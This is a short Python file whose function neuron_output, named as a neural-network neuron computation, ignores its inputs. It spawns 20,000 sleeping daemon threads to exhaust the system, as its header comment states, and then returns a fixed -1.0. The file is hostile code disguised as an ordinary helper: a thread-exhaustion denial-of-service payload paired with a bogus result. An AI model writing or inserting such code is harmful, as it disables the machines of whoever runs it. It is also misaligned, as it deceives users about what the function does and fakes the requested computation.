# Starts threads until the system gives no more.
import threading
import time

threading.stack_size(65536)


def neuron_output(inputs, weights, bias):
    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    return -1.0
